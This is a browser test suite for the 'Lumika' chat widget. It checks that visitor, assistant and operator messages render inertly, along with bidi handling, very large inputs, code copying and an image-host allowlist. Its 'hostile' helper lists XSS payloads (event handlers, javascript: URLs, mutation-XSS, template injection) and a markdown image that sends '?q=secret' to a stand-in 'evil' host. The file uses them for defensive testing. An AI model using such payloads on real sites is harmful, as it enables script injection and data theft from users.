/** What somebody writes is only ever read: it runs nothing, loads nothing, leads nowhere by itself, and keeps nobody waiting. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { engineNames, openEngine } from '../../helpers/engines/engine.ts'
import type { Engine } from '../../helpers/engines/engine.ts'
import { makeCertificate, startHttps } from '../../helpers/engines/https.ts'
import type { Https } from '../../helpers/engines/https.ts'
import type { Page } from '../../helpers/engines/page.ts'
import { startFakeOpenAI } from '../../helpers/fake-openai.ts'
import type { FakeOpenAI } from '../../helpers/fake-openai.ts'
import { operatorOf } from '../../helpers/operator.ts'
import { startServer } from '../../helpers/server.ts'
import type { ServerProcess } from '../../helpers/server.ts'
import { htmlPage, scriptTag, startSite } from '../../helpers/site.ts'
import type { Site } from '../../helpers/site.ts'

/** What the assistant answers to a word. */
const answers = new Map<string, string>()
/** Asked of the hosts that texts name: `path, referrer`. */
const asked: string[] = []
const image = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const collector = createServer((request, response) => {
  if (request.url !== '/favicon.ico') asked.push([request.url, request.headers.referer ?? 'no referrer'].join(', '))
  response.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' }).end(image)
})

let server: ServerProcess
let site: Site
let openai: FakeOpenAI
let https: Https
let plainPort: number
beforeAll(async () => {
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve))
  plainPort = (collector.address() as AddressInfo).port
  https = await startHttps(await makeCertificate(['localhost', 'foreign.localhost']), plainPort)
  openai = await startFakeOpenAI(({ body }) => {
    const text = answers.get(body.messages.at(-1)?.content ?? '') ?? 'What?'
    const pieces = text.match(/[^]{1,4000}/g) ?? []
    const frames = pieces.map((content) => `data: ${JSON.stringify({ choices: [{ delta: { content } }] })}\n\n`)
    return { raw: [...frames, 'data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\n', 'data: [DONE]\n\n'] }
  })
  server = await startServer({
    args: ['--responder', 'openai'],
    env: { LUMIKA_OPENAI_BASE_URL: openai.url, LUMIKA_OPENAI_MODEL: 'fake-1' },
  })
  site = await startSite()
})
afterAll(async () => {
  await site?.close()
  await server?.stop()
  await openai?.close()
  await https?.close()
  collector.close()
})

const hostile = () => {
  const evil = `localhost:${plainPort}`
  return [
    `<img src="http://${evil}/img" onerror="window.hacked=1">`,
    `<svg onload="window.hacked=2"><script>window.hacked=3</script><image href="http://${evil}/svg"/></svg>`,
    `<style>@import "http://${evil}/style"; * { display: none; background: url(http://${evil}/url) }</style>`,
    '<iframe srcdoc="<script>parent.hacked=4</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=5&gt;">',
    `<link rel="stylesheet" href="http://${evil}/link"><meta http-equiv="refresh" content="0;url=http://${evil}/meta">`,
    '&lt;img src=x onerror=window.hacked=6&gt; &#60;b&#62;',
    '',
    `![a](http://${evil}/markdown?q=secret) ![b][ref] [![c](https://${evil}/linked)](https://${evil}/)`,
    '',
    `[ref]: http://${evil}/reference`,
    '',
    '[d](javascript:window.hacked=7) [e](JaVaScRiPt:window.hacked=8) [f](java\tscript:window.hacked=9)',
    '[g](data:text/html,<script>window.hacked=10</script>) [h](vbscript:x) [i](blob:x) [j](file:///etc/passwd)',
    `[k](//${evil}/relative) [l](/relative) <javascript:window.hacked=11> [m](&#106;avascript:window.hacked=12)`,
    `[bank.example](https://${evil}/phish) https://xn--80ak6aa92e.example/ [\u202eelpmaxe.knab](https://${evil}/bidi)`,
    '{@html "<img src=x onerror=window.hacked=13>"} {{constructor.constructor("window.hacked=14")()}} ${window.hacked=15}',
  ].join('\n')
}

/** Opens the chat on a page of its own. */
async function visit(engine: Engine, attributes = ''): Promise<Page> {
  const page = await engine.newPage()
  const path = `/${engine.name}-${Math.random()}`
  await page.goto(site.put(path, { body: htmlPage(scriptTag(server.url, server.token, attributes)) }))
  await page.click('.launcher')
  await page.see('.panel textarea')
  asked.length = 0
  return page
}

const send = (page: Page, text: string) =>
  page.evaluate((words) => (window as unknown as { Lumika: { send(text: string): void } }).Lumika.send(words), text)

/** Waits for so many whole answers as Markdown. */
const answered = (page: Page, count: number) =>
  page.waitFor(
    (wanted) => {
      const root = document.querySelector('lumika-chat')?.shadowRoot
      return root?.querySelectorAll('.done .markdown').length === wanted && !root.querySelector('.writing')
    },
    30_000,
    count,
  )

describe.each(engineNames)('what somebody writes, in %s', (name) => {
  let engine: Engine
  beforeAll(async () => (engine = await openEngine(name)), 60_000)
  afterAll(() => engine.close())

  it('G11, X66 to X69: is inert, whoever writes it', async () => {
    answers.set(hostile(), hostile())
    const page = await visit(engine)
    const address = await page.evaluate(() => location.href)
    await send(page, hostile())
    await answered(page, 1)
    await operatorOf(server).reply(hostile())
    // Not to wait until it is looked for.
    await page.reload()
    await page.click('.launcher')
    await answered(page, 2)
    const found = await page.evaluate(() => {
      const root = document.querySelector('lumika-chat')?.shadowRoot
      const bubbles = [...(root?.querySelectorAll('.entry .message > .bubble') ?? [])]
      const inside = bubbles.flatMap((bubble) => [...bubble.querySelectorAll('*')])
      return {
        hacked: (window as unknown as { hacked?: number }).hacked ?? 0,
        authors: bubbles.map((bubble) => bubble.parentElement?.classList[1]),
        elements: [...new Set(inside.map(({ localName }) => localName))].sort(),
        attributes: [...new Set(inside.flatMap((element) => element.getAttributeNames()))].sort(),
        links: [
          ...new Set(inside.filter(({ localName }) => localName === 'a').map((link) => link.getAttribute('href'))),
        ],
        rels: [...new Set(inside.filter(({ localName }) => localName === 'a').map((link) => link.getAttribute('rel')))],
        hosts: [...new Set(performance.getEntriesByType('resource').map((entry) => new URL(entry.name).host))],
        said: bubbles.map((bubble) => bubble.textContent),
        href: location.href,
      }
    })
    expect(found).toMatchObject({
      hacked: 0,
      authors: ['visitor', 'assistant', 'person'],
      elements: ['a', 'bdi', 'div', 'p', 'span'],
      attributes: ['class', 'href', 'rel', 'target'],
      rels: ['noopener noreferrer nofollow ugc'],
      href: address,
    })
    for (const link of found.links) expect(link).toMatch(/^https?:\/\/(localhost:\d+|xn--80ak6aa92e\.example)\//)
    expect(found.hosts.filter((host) => host !== new URL(server.url).host && host !== new URL(site.url).host)).toEqual(
      [],
    )
    for (const said of found.said.slice(1)) {
      expect(said).toContain('<iframe srcdoc="<script>parent.hacked=4</script>"></iframe>')
      expect(said).toMatch(/bank\.example\s\(localhost\)/)
      expect(said).toContain('xn--80ak6aa92e.example')
      expect(said).not.toContain('\u202e')
    }
    expect(asked).toEqual([])
    expect((await page.consoleErrors()).filter((line) => !line.includes('/favicon.ico'))).toEqual([])
    await page.close()
  })

  it('X70: keeps its direction and its height to itself', async () => {
    const turned = '\u202eevil \u2067deep \u061cلا'
    const tower = `a${'\u0301'.repeat(500)}`
    const desert = `first${'\n'.repeat(3_000)}last`
    const wild = [turned, tower, desert].join('\n\n')
    answers.set(wild, wild)
    const page = await visit(engine)
    await send(page, wild)
    await answered(page, 1)
    await operatorOf(server).reply(wild)
    await page.reload()
    await page.click('.launcher')
    await answered(page, 2)
    const found = await page.evaluate(() => {
      const root = document.querySelector('lumika-chat')?.shadowRoot
      const bubbles = [...(root?.querySelectorAll<HTMLElement>('.entry .message > .bubble') ?? [])]
      return bubbles.map((bubble) => ({
        dir: bubble.dir,
        bidi: getComputedStyle(bubble).unicodeBidi,
        lines: bubble.clientHeight / parseFloat(getComputedStyle(bubble).lineHeight),
        text: bubble.textContent ?? '',
      }))
    })
    expect(found).toHaveLength(3)
    for (const { dir, bidi, lines, text } of found) {
      expect(dir).toBe('auto')
      expect(bidi).toMatch(/^(isolate|plaintext)$/)
      expect(lines).toBeLessThan(14)
      expect(text).toContain('last')
      expect(text.match(/\u0301/g)?.length).toBeLessThan(10)
    }
    await page.close()
  })

  it('X71: keeps nobody waiting, however monstrous, and is all there', async () => {
    // WebKitGTK needs most of a second to lay out a line of 100,000 letters, whoever shows it, and each time it grows.
    const size = name === 'webkit' ? 20_000 : 100_000
    const monsters: Record<string, string> = {
      stars: '*'.repeat(size),
      emphasis: '*a **b '.repeat(size / 8),
      brackets: '['.repeat(size),
      quotes: `${'> '.repeat(5_000)}deep`,
      backticks: `a${'`'.repeat(size - 1)}`,
      // A server cuts answers off at 100,000 characters.
      table: `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(10_000)}`,
    }
    const page = await visit(engine)
    await page.evaluate(() => {
      const own = window as unknown as { longestGap: number }
      own.longestGap = 0
      let last = performance.now()
      setInterval(() => {
        own.longestGap = Math.max(own.longestGap, performance.now() - last)
        last = performance.now()
      }, 10)
    })
    for (const [index, [word, text]] of Object.entries(monsters).entries()) {
      answers.set(word, text)
      await send(page, word)
      await answered(page, index + 1)
    }
    const { lengths, longestGap } = await page.evaluate(() => ({
      lengths: [...(document.querySelector('lumika-chat')?.shadowRoot?.querySelectorAll('.markdown') ?? [])].map(
        (each) => each.textContent?.replace(/[^\w*[`]/g, '').length,
      ),
      longestGap: (window as unknown as { longestGap: number }).longestGap,
    }))
    expect(lengths).toEqual(Object.values(monsters).map((text) => text.replace(/[^\w*[`]/g, '').length))
    // 50 ms for each KB of 100.
    expect(longestGap).toBeLessThan(5_000)
    await send(page, 'still there')
    await answered(page, Object.keys(monsters).length + 1)
    await page.close()
  })

  it('is in view to its end, also when it is shown as Markdown only after it was there', async () => {
    answers.set('long', '- one\n\n- two\n\n'.repeat(40))
    const page = await visit(engine)
    await send(page, 'long')
    await answered(page, 1)
    await page.reload()
    await page.click('.launcher')
    await answered(page, 1)
    await page.waitFor(() => {
      const log = document.querySelector('lumika-chat')?.shadowRoot?.querySelector('.log')
      return log && log.scrollHeight > 1_000 && log.scrollHeight - log.scrollTop - log.clientHeight < 2
    })
    await page.close()
  })

  it('can be copied where it is code', async () => {
    answers.set('code', 'Run:\n\n```sh\nls -la "a b"\n\tcd <x> && y\n```')
    const page = await visit(engine)
    await send(page, 'code')
    await answered(page, 1)
    await page.click('.code button')
    await page.waitFor(
      () => document.querySelector('lumika-chat')?.shadowRoot?.querySelector('.code button')?.textContent === 'Copied',
    )
    await page.click('.panel textarea')
    await page.press('Control+v')
    await page.waitFor(
      () =>
        document.querySelector('lumika-chat')?.shadowRoot?.querySelector('textarea')?.value ===
        'ls -la "a b"\n\tcd <x> && y',
    )
    await page.close()
  })

  it('X69: shows images from hosts that the site names, and from no other', async () => {
    const host = `localhost:${https.port}`
    answers.set(
      'images',
      `![one](https://${host}/one.png) ![two](https://foreign.localhost:${https.port}/two.png) ![three](http://${host}/three.png)`,
    )
    const page = await visit(engine, `data-image-hosts="img.example ${host}"`)
    await send(page, 'images')
    await answered(page, 1)
    await page.waitFor(() => {
      const image = document.querySelector('lumika-chat')?.shadowRoot?.querySelector<HTMLImageElement>('.markdown img')
      return image?.complete && image.naturalWidth === 1
    })
    const links = await page.evaluate(() =>
      [...(document.querySelector('lumika-chat')?.shadowRoot?.querySelectorAll('.markdown a') ?? [])].map(
        (link) => link.textContent,
      ),
    )
    expect(links).toEqual(['two', 'three'])
    expect(asked).toEqual(['/one.png, no referrer'])
    await page.close()
  })
})
